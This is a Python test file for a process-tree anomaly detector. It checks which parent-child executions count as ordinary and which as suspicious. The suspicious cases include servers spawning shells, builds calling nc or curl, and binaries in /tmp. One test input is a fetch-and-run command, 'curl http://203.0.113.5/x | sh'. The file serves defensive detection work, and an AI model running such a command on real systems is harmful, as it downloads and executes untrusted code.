"""Which new edges of the process tree are news."""

from __future__ import annotations

import pytest
from brainkernel.config import Gate as GateConfig
from brainkernel.gate.baseline import Baseline
from brainkernel.gate.gate import Gate
from brainkernel.model import Mark
from support.nouns import an_exec

ORDINARY = [
    ("/usr/sbin/logrotate", "/usr/bin/gzip"),
    ("/usr/bin/dpkg", "/usr/bin/dash"),
    ("/usr/bin/apt-get", "/usr/lib/apt/methods/store"),
    ("/usr/bin/make", "/usr/bin/x86_64-linux-gnu-gcc-12"),
    ("/usr/bin/cargo", "/builds/team/agent/target/debug/build/ring-1f/build-script-build"),
    ("/usr/bin/node", "/home/alice/src/web/node_modules/@esbuild/linux-x64/bin/esbuild"),
    ("/usr/bin/nautilus", "/usr/bin/totem-video-thumbnailer"),
    ("/usr/lib/postfix/sbin/local", "/usr/bin/procmail"),
    ("/usr/bin/containerd-shim-runc-v2", "/usr/bin/bash"),
    ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/ssh"),
    ("/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/15/bin/postgres"),
    ("/usr/lib/postfix/sbin/master", "/usr/lib/postfix/sbin/postscreen"),
    ("/usr/sbin/dovecot", "/usr/lib/dovecot/anvil"),
    ("/usr/sbin/cupsd", "/usr/lib/cups/filter/rastertopdf"),
    ("/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd-oomd"),
    ("/usr/lib/systemd/systemd", "/usr/sbin/fstrim"),
    ("/usr/bin/dbus-daemon", "/usr/libexec/gnome-shell-calendar-server"),
    ("/usr/bin/konsole", "/usr/bin/zsh"),
    ("/usr/bin/node", "/home/alice/src/web/node_modules/.bin/rollup"),
    ("/usr/bin/cargo", "/home/alice/.rustup/toolchains/stable/bin/rustc"),
    ("/usr/sbin/php-fpm8.2", "/usr/bin/convert"),
    ("/usr/bin/dockerd", "/usr/bin/docker-proxy"),
]
NEWS = [
    ("/usr/sbin/nginx", "/usr/bin/dash"),
    ("/usr/sbin/php-fpm8.2", "/usr/bin/dash"),
    ("/usr/lib/postfix/sbin/smtpd", "/usr/bin/dash"),
    ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/python3.11"),
    ("/usr/local/bin/node", "/usr/bin/dash"),
    ("/usr/bin/make", "/usr/bin/nc.openbsd"),
    ("/usr/bin/make", "/usr/bin/curl"),
    ("/usr/bin/dpkg", "/tmp/x"),
    ("/usr/bin/cargo", "/tmp/target/debug/x"),
    ("/usr/bin/gnome-shell", "/home/alice/.config/.dbus/gnome-helper"),
    ("/usr/bin/gnome-shell", "/usr/bin/bash"),
    ("/home/alice/logrotate", "/usr/bin/gzip"),
    ("/tmp/make", "/usr/bin/gcc"),
    ("/usr/bin/bash", "/usr/bin/htop"),
    ("/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd-update-daily"),
    ("/usr/lib/systemd/systemd", "/usr/lib/systemd/system-generators/first"),
    ("/usr/lib/systemd/systemd", "/usr/local/sbin/sshd"),
    ("/usr/lib/systemd/systemd", "/usr/bin/dash"),
    ("/usr/sbin/dovecot", "/usr/lib/dovecot/.cache/anvil"),
    ("/usr/sbin/dovecot", "/usr/bin/dash"),
    ("/usr/sbin/nginx", "/usr/bin/nginx-helper"),
    ("/usr/bin/dbus-daemon", "/home/alice/.local/bin/agent"),
    ("/usr/bin/konsole", "/usr/bin/xxd"),
    ("/usr/bin/node", "/srv/app/.bin/rollup"),
    ("/usr/sbin/php-fpm8.2", "/usr/bin/nmap"),
    ("/usr/bin/bash", "/usr/bin/bash"),
]


@pytest.mark.parametrize(("parent", "exe"), ORDINARY)
def test_edge_that_a_parent_lives_by_is_no_news(parent: str, exe: str) -> None:
    """Logrotate compresses and a package manager runs scripts: the first time is as ordinary as the tenth."""
    assert Gate(GateConfig(), Baseline()).consider(an_exec(exe, parent_exe=parent), None) is None


@pytest.mark.parametrize(("job", "is_news"), [("/etc/cron.weekly/man-db", False), ("/etc/cron.hourly/gcc.sh", True), ("/tmp/man-db", True)])
def test_job_is_no_news_if_the_distribution_brought_it(job: str, is_news: bool) -> None:  # one of the two
    """A script that is new among the jobs is looked at: that is how an intruder stays."""
    event = an_exec("/usr/bin/dash", parent_exe="/usr/bin/run-parts", argv=("/bin/sh", job))

    assert (Gate(GateConfig(), Baseline()).consider(event, None) is not None) is is_news


@pytest.mark.parametrize(("parent", "exe"), NEWS)
def test_other_new_edge_is_news(parent: str, exe: str) -> None:
    """A server that starts a shell, a build that speaks to the network, a parent that only bears a good name."""
    suspect = Gate(GateConfig(), Baseline()).consider(an_exec(exe, parent_exe=parent), None)

    assert suspect is not None
    assert suspect.reasons


def test_ordinary_edge_is_news_for_an_odd_file() -> None:
    """A program that was deleted, or lives in memory alone, is looked at whoever starts it."""
    event = an_exec("/usr/bin/gzip", parent_exe="/usr/sbin/logrotate", marks=frozenset({Mark.DELETED}))

    assert Gate(GateConfig(), Baseline()).consider(event, None) is not None


def test_script_from_an_odd_place_is_news_whoever_starts_it() -> None:
    """An interpreter is as odd as what it runs."""
    event = an_exec("/usr/bin/dash", parent_exe="/usr/bin/dpkg", argv=("/bin/sh", "/tmp/postinst", "configure"))

    assert Gate(GateConfig(), Baseline()).consider(event, None) is not None


def test_hidden_directory_of_a_language_is_no_news_with_its_mark() -> None:
    """The sensor marks each hidden directory; those that a build keeps its tools in are known here."""
    marks = frozenset({Mark.HIDDEN_DIR})
    event = an_exec("/home/alice/src/web/node_modules/.bin/rollup", parent_exe="/usr/bin/node", marks=marks)

    assert Gate(GateConfig(), Baseline()).consider(event, None) is None


@pytest.mark.parametrize("parent", ["/usr/sbin/sshd", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/make", "/usr/bin/dpkg"])
def test_code_on_a_command_line_is_news_whoever_starts_it(parent: str) -> None:
    """A shell given its script in an argument is judged by that argument: the lineage says nothing of it."""
    event = an_exec("/usr/bin/bash", parent_exe=parent, argv=("bash", "-c", "curl http://203.0.113.5/x | sh"))

    assert Gate(GateConfig(), Baseline()).consider(event, "bash -c <code>") is not None
